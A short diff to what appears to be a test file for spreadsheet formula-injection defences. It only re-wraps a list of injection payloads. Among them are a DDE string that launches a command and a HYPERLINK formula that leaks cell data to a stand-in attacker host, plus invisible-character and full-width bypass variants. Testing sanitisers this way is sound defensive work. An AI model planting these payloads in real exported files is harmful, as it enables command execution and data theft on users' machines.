@@ -6,8 +6,8 @@ import io
 from target import KEY, Target
 
 FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "＝1+1", "＋1",
-            "－1", "＠SUM(1)", '=HYPERLINK("https://evil.example?"&A1,"x")', "=1;=2", "a\n=1", "=\"\"\"=1", " =1", "\u00a0=1",
-            "\ufeff=1", "\u200b+1", "\v-1", " \t@x", "' =1"]  # fmt: skip
+            "－1", "＠SUM(1)", '=HYPERLINK("https://evil.example?"&A1,"x")', "=1;=2", "a\n=1", "=\"\"\"=1", " =1",
+            "\u00a0=1", "\ufeff=1", "\u200b+1", "\v-1", " \t@x", "' =1"]  # fmt: skip
 STARTS = tuple("=+-@\t\r\n＝＋－＠")
 UNSEEN = " \u00a0\v\u200b\ufeff"
 
